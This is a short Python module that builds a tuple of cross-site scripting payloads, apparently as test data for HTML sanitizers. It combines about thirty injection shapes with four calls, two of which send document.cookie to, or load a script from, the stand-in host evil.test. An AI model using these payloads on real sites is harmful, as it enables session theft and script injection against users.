"""Texts that would run as a script, load something or break out of a page if any of them were taken for markup."""

from __future__ import annotations

_CALLS = ("alert(1)", "fetch('//evil.test/'+document.cookie)", "window.xss=1", "import('//evil.test/x.js')")
_SHAPES = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">x</a>',
    "[x](javascript:{})",
    "<math><mtext></mtext><script>{}</script></math>",
    '" onmouseover="{}" x="',
    "' autofocus onfocus='{}' x='",
    "`-{}-`",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "<template><script>{}</script></template>",
)
PAYLOADS = tuple(shape.format(call) for shape in _SHAPES for call in _CALLS)
